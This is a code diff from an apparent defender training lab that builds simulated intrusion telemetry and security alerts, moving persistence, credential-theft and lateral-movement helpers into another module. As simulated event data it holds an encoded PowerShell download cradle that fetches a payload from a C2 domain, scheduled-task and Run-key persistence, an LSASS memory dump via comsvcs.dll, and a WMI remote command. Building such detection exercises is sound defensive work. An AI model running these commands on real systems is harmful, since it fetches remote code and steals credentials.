@@ -12,9 +12,16 @@ from datetime import datetime, timedelta
 
 from defender_lab.world import evidence
 from defender_lab.world.chapters import ENDPOINT, AlertPlan, Chapter
-from defender_lab.world.clouds import attach, mail
-from defender_lab.world.indicators import Indicators, Intrusion
-from defender_lab.world.processes import SYSTEM, Process, shell, start
+from defender_lab.world.indicators import Indicators
+from defender_lab.world.intrusion_spread import (
+    DROP,
+    EDR,
+    credential_theft,
+    lateral_movement,
+    persistence,
+)
+from defender_lab.world.mail import attach, mail
+from defender_lab.world.processes import shell, start
 from defender_lab.world.scene import Scene
 
 NAME = "intrusion"
@@ -28,9 +35,6 @@ TABLES = (
     "DeviceEvents",
     "DeviceLogonEvents",
 )
-_DROP = "C:\\Users\\Public\\Libraries"
-_RUN = "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
-_EDR = "microsoftDefenderForEndpoint"
 
 
 def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
@@ -82,7 +86,7 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
     at += timedelta(seconds=11)
     script = (
         "IEX(New-Object"
-        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat','{_DROP}\\{facts.payload}')"
+        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat','{DROP}\\{facts.payload}')"
     )
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
     command = f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}"
@@ -98,7 +102,7 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
     at += timedelta(seconds=6)
     drop = {
         "FileName": facts.payload,
-        "FolderPath": f"{_DROP}\\{facts.payload}",
+        "FolderPath": f"{DROP}\\{facts.payload}",
         "SHA256": facts.payload_sha256,
         "SHA1": facts.payload_sha1,
     }
@@ -114,11 +118,11 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
     at += timedelta(seconds=20)
     payload = start(
         facts.payload,
-        f"{_DROP}\\{facts.payload}",
+        f"{DROP}\\{facts.payload}",
         at,
         user,
         pid=scene.pid(),
-        folder=_DROP,
+        folder=DROP,
         image=facts.payload_image,
         parent=powershell,
     )
@@ -132,7 +136,7 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
         "Execution",
         ("T1059.001", "T1204.002", "T1071.001"),
         ENDPOINT,
-        _EDR,
+        EDR,
         at,
         (
             evidence.device(device, at),
@@ -142,7 +146,7 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
             evidence.process(powershell, device, at, "malicious"),
             evidence.file(facts.document, folder, facts.document_sha256, None, device, at),
             evidence.file(
-                facts.payload, _DROP, facts.payload_sha256, facts.payload_sha1, device, at
+                facts.payload, DROP, facts.payload_sha256, facts.payload_sha1, device, at
             ),
             evidence.ip(facts.c2_ip, at, verdict="malicious"),
             evidence.url(f"https://{facts.c2_domain}/u/a.dat", at),
@@ -150,151 +154,12 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
         "An Office program started PowerShell with an encoded command that fetched a program.",
     )
     later = (
-        _persist(scene, facts, at, payload),
-        _steal(scene, at, payload),
-        _move(scene, at, payload),
+        persistence(scene, facts, at, payload),
+        credential_theft(scene, at, payload),
+        lateral_movement(scene, at, payload),
     )
     title = (
         "Multi-stage incident involving Execution & Lateral movement on multiple endpoints"
         " reported by multiple sources"
     )
     return Chapter(NAME, title, (executed, *later))
-
-
-def _persist(scene: Scene, facts: Intrusion, begin: datetime, payload: Process) -> AlertPlan:
-    device = next(one for one in scene.workstations if one.owner == payload.account)
-    at = begin + timedelta(minutes=6)
-    task = (
-        f'schtasks.exe /create /tn "OneDrive Sync Helper" /tr "{_DROP}\\{facts.payload}" /sc'
-        " onlogon /rl highest /f"
-    )
-    tasks = start("schtasks.exe", task, at, payload.account, pid=scene.pid(), parent=payload)
-    scene.run(at, device, tasks, payload)
-    named = {"AdditionalFields": '{"TaskName":"\\\\OneDrive Sync Helper"}'}
-    scene.on_device(
-        "DeviceEvents", at + timedelta(seconds=1), device, tasks, "ScheduledTaskCreated", **named
-    )
-    at += timedelta(seconds=50)
-    value = {
-        "RegistryKey": _RUN,
-        "RegistryValueName": "OneDriveSync",
-        "RegistryValueData": f"{_DROP}\\{facts.payload}",
-        "RegistryValueType": "String",
-    }
-    row = scene.on_device("DeviceRegistryEvents", at, device, payload, "RegistryValueSet", **value)
-    found = (
-        evidence.device(device, at),
-        evidence.process(tasks, device, at),
-        evidence.registry(row, device, at),
-    )
-    return AlertPlan(
-        "Anomaly detected in ASEP registry",
-        "medium",
-        "Persistence",
-        ("T1053.005", "T1547.001"),
-        ENDPOINT,
-        _EDR,
-        at,
-        found,
-    )
-
-
-def _steal(scene: Scene, begin: datetime, payload: Process) -> AlertPlan:
-    device = next(one for one in scene.workstations if one.owner == payload.account)
-    at = begin + timedelta(minutes=31)
-    command = (
-        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712"
-        " C:\\Windows\\Temp\\d.bin full"
-    )
-    dump = start("rundll32.exe", command, at, SYSTEM, pid=scene.pid(), parent=payload)
-    scene.run(at, device, dump, payload)
-    opened = {
-        "FileName": "lsass.exe",
-        "FolderPath": "C:\\Windows\\System32\\lsass.exe",
-        "ProcessId": 712,
-    }
-    scene.on_device(
-        "DeviceEvents",
-        at + timedelta(seconds=1),
-        device,
-        dump,
-        "OpenProcessApiCall",
-        **opened,
-        AdditionalFields='{"DesiredAccess":2097151}',
-    )
-    scene.on_device(
-        "DeviceFileEvents",
-        at + timedelta(seconds=2),
-        device,
-        dump,
-        "FileCreated",
-        FileName="d.bin",
-        FolderPath="C:\\Windows\\Temp\\d.bin",
-    )
-    found = (evidence.device(device, at), evidence.process(dump, device, at, "malicious"))
-    return AlertPlan(
-        "LSASS process memory modified",
-        "high",
-        "CredentialAccess",
-        ("T1003.001",),
-        ENDPOINT,
-        _EDR,
-        at,
-        found,
-    )
-
-
-def _move(scene: Scene, begin: datetime, payload: Process) -> AlertPlan:
-    source = next(one for one in scene.workstations if one.owner == payload.account)
-    target = scene.rng.choice(scene.servers)
-    at = begin + timedelta(minutes=74)
-    by = start("lsass.exe", "lsass.exe", at - timedelta(days=4), SYSTEM, pid=712)
-    logon = {
-        "AccountDomain": scene.admin.netbios.lower(),
-        "AccountName": scene.admin.account.lower(),
-        "AccountSid": scene.admin.sid,
-    }
-    origin = {
-        "RemoteIP": source.ip,
-        "RemoteDeviceName": source.name,
-        "RemoteIPType": "Private",
-        "Protocol": "NTLM",
-    }
-    scene.on_device(
-        "DeviceLogonEvents",
-        at,
-        target,
-        by,
-        "LogonSuccess",
-        LogonType="Network",
-        IsLocalAdmin=True,
-        **logon,
-        **origin,
-    )
-    at += timedelta(seconds=4)
-    host = start("WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding", at, SYSTEM, pid=scene.pid())
-    remote = start(
-        "cmd.exe",
-        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1",
-        at,
-        scene.admin,
-        pid=scene.pid(),
-        parent=host,
-    )
-    scene.run(at, target, remote, host)
-    found = (
-        evidence.device(target, at),
-        evidence.device(source, at),
-        evidence.user(scene.admin, at),
-        evidence.process(remote, target, at),
-    )
-    return AlertPlan(
-        "Suspicious WMI process creation",
-        "high",
-        "LateralMovement",
-        ("T1047", "T1021.006"),
-        ENDPOINT,
-        _EDR,
-        at,
-        found,
-    )
